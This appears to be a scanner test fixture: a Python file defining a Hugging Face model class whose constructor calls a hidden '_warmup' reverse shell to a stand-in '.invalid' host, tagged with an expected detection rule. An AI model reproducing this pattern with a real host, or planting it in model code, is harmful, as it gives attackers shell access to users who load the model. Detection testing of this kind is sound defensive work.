# Inert fixture: the canary host never resolves (.invalid).
import os
import pty
import socket

from transformers import PreTrainedModel

HOST = "canary.modelgate.invalid"


def _warmup():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((HOST, 4444))
    os.dup2(s.fileno(), 0)  # expect: YR101
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    pty.spawn("/bin/bash")


class CanaryModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        _warmup()
